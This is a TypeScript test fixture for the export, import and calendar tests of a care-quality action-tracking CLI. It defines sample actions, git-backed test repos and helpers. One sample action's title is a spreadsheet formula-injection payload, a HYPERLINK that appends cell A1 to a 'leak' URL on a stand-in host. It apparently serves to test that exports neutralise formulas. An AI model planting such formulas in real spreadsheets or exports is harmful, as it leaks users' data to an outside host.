// Repos for the export, import and calendar tests: the rules fixture's valid closed action (MH-001)
// and, beside it, actions of every shape a spreadsheet or calendar must carry: several targets at a
// second location, a provider-wide action whose title is a formula, a hold, names that are not ASCII.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Action } from '../../src/model.js';
import { type RepoSpec, validRepo, writeRepo } from '../rules/fixture.js';
import { commitAs, makeRepo, testGitEnv, type TestPerson } from '../git/helpers.js';
import { cqc, type CliResult } from '../helpers/cli.js';

export const AS_OF = '2026-11-15';

/** The SPEC's export columns, written out here so a change in the code cannot change the test. */
export const SPEC_HEADERS = ['id', 'title', 'location', 'raised', 'source', 'source_ref', 'theme', 'quality_statements',
  'regulations', 'risk_areas', 'owner', 'status', 'rag', 'target_measure', 'target_unit', 'target_goal', 'target_direction',
  'target_due', 'other_targets', 'required_evidence', 'reviewer', 'approver', 'ready', 'decided_by', 'decided_on', 'review_due'];

export const PRIYA: TestPerson = { name: 'Priya Patel', email: 'priya.patel@example.org' };

export const NUTRITION: Action = {
  id: 'NU-004',
  title: "Nutrition screening on Zoë's unit, led by Siân Ó'Brien",
  location: 'oak-lodge',
  raised: '2026-09-01',
  source: 'cqc-inspection',
  source_ref: 'Inspection report 2026-07, paragraph 14',
  theme: 'nutrition-and-hydration',
  quality_statements: ['effective.assessing-needs'],
  regulations: ['13'],
  risk_areas: ['nutrition'],
  owner: 'sian-obrien',
  targets: [
    { id: 'screening', measure: 'People screened with MUST on admission and monthly', unit: 'percent', goal: 95, direction: 'at_least', due: '2026-12-31' },
    { id: 'weight-loss', measure: 'People with unplanned weight loss over 5% in the month', unit: 'count', goal: 0, direction: 'at_most', due: '2027-01-31' },
  ],
  closure_criteria: { required_evidence: ['audit', 'care_record'], reviewer: 'registered-manager', approver: 'nominated-individual' },
  status: 'in_progress',
};

/** Provider-wide, with text a spreadsheet would run as a formula. */
export const FORMULA: Action = {
  id: 'IN-003',
  title: '=HYPERLINK("http://example.test/?leak="&A1,"Click")',
  raised: '2026-10-01',
  source: 'incident',
  source_ref: '@SUM(1+1)',
  owner: 'dan-jones',
  status: 'open',
};

/** Held in monitoring by the nominated individual, to come back by 2026-12-01. */
export const HELD: Action = {
  id: 'SUP-002',
  title: 'Supervision records lack follow-up of agreed actions',
  location: 'rose-house',
  raised: '2026-08-10',
  source: 'internal-audit',
  quality_statements: ['well-led.governance-management-and-sustainability'],
  owner: 'dan-jones',
  target: { measure: 'Supervision records with follow-up of agreed actions', unit: 'percent', goal: 90, direction: 'at_least', due: '2026-11-20' },
  closure_criteria: { required_evidence: ['audit', 'feedback'], reviewer: 'registered-manager', approver: 'nominated-individual' },
  status: 'monitoring',
  closure: {
    recommended_by: 'priya-patel', recommended_on: '2026-11-02',
    decided_by: 'grace-okafor', decided_on: '2026-11-05', decision: 'hold', return_by: '2026-12-01',
    minutes: 'Governance minutes 2026-11-05, item 2',
  },
};

export function exchangeSpec(): RepoSpec {
  const spec = validRepo();
  spec.config.locations = [{ id: 'rose-house', name: 'Rose House' }, { id: 'oak-lodge', name: 'Oak Lodge' }];
  spec.people.push({ id: 'sian-obrien', name: "Siân Ó'Brien", roles: ['registered-manager'], emails: ['sian.obrien@example.org'] });
  for (const a of [NUTRITION, FORMULA, HELD]) spec.actions[a.id] = structuredClone(a);
  return spec;
}

/** The spec written as files (no git). */
export function exchangeRepo(spec = exchangeSpec()): string {
  return writeRepo(spec).dir;
}

/** The spec committed in a real git repo by a setup identity. */
export function committedRepo(spec = exchangeSpec()): string {
  const { dir, files } = writeRepo(spec);
  const repo = makeRepo(undefined, dir);
  commitAs(repo, { name: 'Setup', email: 'setup@example.org' }, '2026-11-01T09:00:00Z', Object.fromEntries(files), 'Records');
  return dir;
}

/** The built CLI acting as `who` (their git identity), with no user or system git config. */
export function cqcAs(who: TestPerson, args: string[], cwd: string): CliResult {
  return cqc(args, { cwd, env: testGitEnv({
    GIT_AUTHOR_NAME: who.name, GIT_AUTHOR_EMAIL: who.email, GIT_COMMITTER_NAME: who.name, GIT_COMMITTER_EMAIL: who.email,
    GIT_AUTHOR_DATE: '2026-11-15T10:00:00Z', GIT_COMMITTER_DATE: '2026-11-15T10:00:00Z',
  }) });
}

/** A CSV as records of header → cell, read with csv-parse (the BOM removed). */
export function csvRecords(text: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true }) as Record<string, string>[];
}

export function gitIn(dir: string, args: string[]): string {
  return execFileSync('git', args, { cwd: dir, env: testGitEnv(), encoding: 'utf8' });
}

export function fileText(dir: string, path: string): string {
  return readFileSync(join(dir, path), 'utf8');
}
